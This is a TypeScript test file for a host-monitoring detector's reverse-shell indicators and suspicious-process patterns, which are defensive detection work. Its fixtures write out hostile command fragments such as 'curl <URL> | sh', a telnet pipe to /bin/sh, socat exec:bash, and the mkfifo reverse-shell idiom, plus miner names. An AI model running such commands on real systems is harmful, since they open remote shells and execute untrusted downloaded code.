// What an entry of the site's lists means: the accidents of wide lists stay silent, what was meant is still seen.
import { describe, expect, test } from "bun:test";
import { existsSync, readFileSync } from "node:fs";
import { join, resolve } from "node:path";
import { processListsOf, WIDE_LISTS } from "./process_lists.fixture.ts";
import { NO_PROCESS_LISTS } from "./process_lists.ts";

const wide = processListsOf(WIDE_LISTS);

const INDICATORS: readonly [sentence: string, commandLine: string, found: string | undefined][] = [
  ["the text itself", "bash -i", "bash -i"],
  ["in another case and with more blanks", "BASH \t -I", "bash -i"],
  ["called by its path", "/usr/bin/bash -i", "bash -i"],
  ["in the code of a shell", "sh -c (bash -i)", "bash -i"],
  ["between quotes", `sh -c "bash -i" x`, "bash -i"],
  ["not at the end of another word", "rebash -i", undefined],
  ["not before the rest of a word", "bash -ilx", undefined],
  ["ssh with a key is no shell", "ssh -i key host", undefined],
  ["git show is no download", "git show", undefined],
  ["python3 is not python", "python3 -c print(1)", undefined],
  ["python with code", "python -c print(1)", "python -c"],
  ["php with a dash of its own", "php - x", "php -"],
  ["php with an option", "php -r 1", undefined],
  ["a download by its address", "sh -c curl http://x/y | sh", "curl <URL> | sh"],
  ["a download without blanks around the bar", "sh -c curl https://x.example/y|sh", "curl <URL> | sh"],
  ["a download without a scheme", "sh -c curl x.example/y | sh", "curl <URL> | sh"],
  ["a download into a file", "sh -c curl http://x/y | shasum", undefined],
  ["a text that goes on after its colon", "socat exec:bash,pty tcp:192.0.2.1:5", "socat exec:"],
  ["address and port", "sh -c telnet 192.0.2.1 4444 | /bin/sh", "telnet <IP> <PORT> | /bin/sh"],
  ["a word that is no port", "sh -c telnet 192.0.2.1 http | /bin/sh", undefined],
  ["quotes that the shell took away", `awk BEGIN {system("/bin/sh")}`, `awk 'BEGIN {system("/bin/sh")}'`],
  ["blanks after a semicolon", "sh -c rm /tmp/f; mkfifo /tmp/f; cat", "rm /tmp/f;mkfifo /tmp/f"],
];

describe("REVERSE_SHELL_INDICATORS", () => {
  test.each(INDICATORS)("%s", (_sentence, commandLine, found) => {
    expect(wide.indicators(commandLine)[0]?.text).toBe(found);
  });

  test("a text without a letter finds nothing, and a text of signs is taken as it stands", () => {
    const odd = processListsOf({ REVERSE_SHELL_INDICATORS: ["", "|", ".*", "a+(b", "<URL"] });
    expect(odd.indicators("a | b .* aa(b").map((hit) => hit.text)).toEqual([]);
    expect(odd.indicators("x a+(b y").map((hit) => hit.text)).toEqual(["a+(b"]);
  });
});

const PATTERNS: readonly [sentence: string, text: string, found: string | undefined][] = [
  ["git show", "git show", undefined],
  ["ssh with a key", "ssh -i key host", undefined],
  ["truncate holds ncat", "truncate -s 0 f", undefined],
  ["determine holds mine", "determine", undefined],
  ["marshal holds rsh", "marshal", undefined],
  ["NetworkManager", "/usr/sbin/NetworkManager --no-daemon", undefined],
  ["ncat itself", "ncat -l 80", "nc\\.?at"],
  ["a miner", "./xmrig -o pool", "xmrig"],
  ["a word that only begins so", "/opt/cryptominer", "cryptomine"],
  ["after a sign within a word", "my_reverse_shell.c", "reverse_?shell"],
  ["a directory of ten characters", "/tmp/abcdefghij/x", "/(tmp|dev/shm)/[a-z0-9]{10}"],
  ["a script", "./build.sh", "\\.(sh|py)$"],
];

describe("SUSPICIOUS_PATTERNS", () => {
  test.each(PATTERNS)("%s", (_sentence, commandLine, found) => {
    expect(wide.suspicious({ name: "", executable: "", script: "", commandLine })[0]?.text).toBe(found);
  });

  test("say which of the four texts they matched, in this order, and the part they matched", () => {
    const texts = { name: "a", executable: "/x/a", script: "", commandLine: "a" };
    const subjects = [
      { ...texts, name: "xmrig" },
      { ...texts, executable: "/x/xmrig", commandLine: "xmrig" },
      { ...texts, script: "/y/xmrig.py" },
      { ...texts, commandLine: `a ${"b".repeat(60)} xmrig ${"c".repeat(60)}` },
    ].map((row) => wide.suspicious(row).find((hit) => hit.text === "xmrig"));
    expect(subjects.map((hit) => hit?.subject)).toEqual(["name", "executable", "script", "command line"]);
    expect(subjects.at(-1)?.matched).toMatch(/^\.\.\.b+ xmrig c+\.\.\.$/);
  });

  test("are read to 32 KiB of a command line, and one that does not compile matches nothing", () => {
    const lists = processListsOf({ SUSPICIOUS_PATTERNS: ["(", "evil"] });
    const at = (blanks: number): number =>
      lists.suspicious({ name: "", executable: "", script: "", commandLine: `${" ".repeat(blanks)}evil` }).length;
    expect([at(32_000), at(33_000)]).toEqual([1, 0]);
  });
});

test("names, places and limits of the site", () => {
  const lists = processListsOf({
    PROCESS_THRESHOLDS: WIDE_LISTS.PROCESS_THRESHOLDS,
    TRUSTED_USERS_PATTERNS: ["panel-", "ng ", ""],
    PROTECTED_DIRECTORIES: ["/home/*/.ssh/", "/srv/app", "/a.b/"],
  });
  expect(["panel-1", "ng serve", "ng", "nginx"].map(lists.isKnownName)).toEqual([true, true, false, false]);
  const places = ["/home/a/.ssh/x", "/home/a/b/.ssh/x", "/srv/app/x", "/srv/apple/x", "/a.b/x", "/aXb/x"];
  expect(places.map(lists.isProtectedPlace)).toEqual([true, false, true, false, true, false]);
  expect([lists.limitsOf("/usr/bin/x").cpu_percent, lists.limitsOf("/usr/bin/ffmpeg").cpu_percent]).toEqual([95, 800]);
  expect(lists.limitsOf("/usr/bin/ffmpeg").threads).toBe(1000);
});

const THREADS: readonly [name: string, claims: boolean][] = [
  ["kworker/0:1", true],
  ["[kworker/u8:2-events]", true],
  ["kworker/../../tmp/x", false],
  ["kworker/0:1 x", false],
  ["ng serve", false],
  ["panel-1", false],
];

test.each(THREADS)("a program that is called %s claims to be a kernel thread: %p", (name, claims) => {
  const lists = processListsOf({ TRUSTED_SYSTEM_PATTERNS: ["kworker/", "ng ", "panel-", ""] });
  expect(lists.claimsKernelThread(name)).toBe(claims);
  expect(NO_PROCESS_LISTS.claimsKernelThread(name)).toBe(false);
});

test("foreign bytes make neither list throw", () => {
  let state = 7;
  const next = (below: number): number => {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    return state % below;
  };
  const pieces = ["bash", " -i", "\ud800", "\u0000", "|", "sh", "'", "<URL>", "http://", "1.2.3.4", "\n", "é", "mine"];
  for (let round = 0; round < 500; round++) {
    const text = Array.from({ length: next(12) }, () => pieces[next(pieces.length)] ?? "").join("");
    const lists = processListsOf({ REVERSE_SHELL_INDICATORS: [text] });
    expect(wide.indicators(text).length).toBeLessThan(WIDE_LISTS.REVERSE_SHELL_INDICATORS.length);
    expect(wide.suspicious({ name: text, executable: text, script: text, commandLine: text })).toBeArray();
    expect(lists.indicators(text).length).toBeLessThanOrEqual(1);
  }
});

const PUBLISHED = "old-service-config.json";
const data = join(process.env["ALGO_SHARED"] ?? resolve(import.meta.dir, "../../../../shared"), "data");
const noData = existsSync(data) ? "" : `: skipped, no test data in ${data} (set ALGO_SHARED)`;

function commandsOf(name: string): readonly string[] {
  const text = new TextDecoder().decode(Bun.gunzipSync(readFileSync(join(data, `${name}.jsonl.gz`))));
  const rows = text.trim().split("\n");
  return rows.flatMap((line) => {
    const { command, payload }: { readonly command?: string; readonly payload?: string } = JSON.parse(line);
    return command ?? payload ?? [];
  });
}

describe.skipIf(noData !== "")(`the published lists${noData}`, () => {
  const published = noData === "" ? processListsOf(JSON.parse(readFileSync(join(data, PUBLISHED), "utf8"))) : wide;

  test("their indicators are rare among everyday commands and common among reverse shells", () => {
    const share = (name: string): number => {
      const commands = commandsOf(name);
      return commands.filter((command) => published.indicators(command).length > 0).length / commands.length;
    };
    expect(share("tldr")).toBeLessThan(0.001);
    expect(share("reverse_shells")).toBeGreaterThan(0.5);
  });

  test.each(PATTERNS.filter(([, , found]) => found === undefined))("%s", (_sentence, commandLine) => {
    expect(published.suspicious({ name: "", executable: "", script: "", commandLine })).toEqual([]);
    expect(published.indicators(commandLine)).toEqual([]);
  });
});
